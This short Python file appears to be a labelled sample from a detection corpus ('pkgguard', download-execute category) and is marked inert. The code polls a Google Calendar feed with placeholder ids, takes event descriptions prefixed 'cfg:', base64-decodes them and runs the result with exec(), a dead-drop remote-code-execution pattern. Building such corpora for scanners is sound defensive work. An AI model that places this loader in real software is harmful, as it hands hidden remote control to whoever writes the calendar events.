# pkgguard corpus 807 (download-execute), modelled on [developer-persistence]; inert, never run.
import base64

import requests

_FEED = "https://www.googleapis.com/calendar/v3/calendars/placeholder%40group.calendar.google.com/events"

try:
    events = requests.get(_FEED, params={"key": "placeholder", "maxResults": 5}, timeout=10).json()
except Exception:
    events = {}
for item in events.get("items", []):
    note = item.get("description", "")
    if note.startswith("cfg:"):
        exec(base64.b64decode(note[4:]).decode(), {})
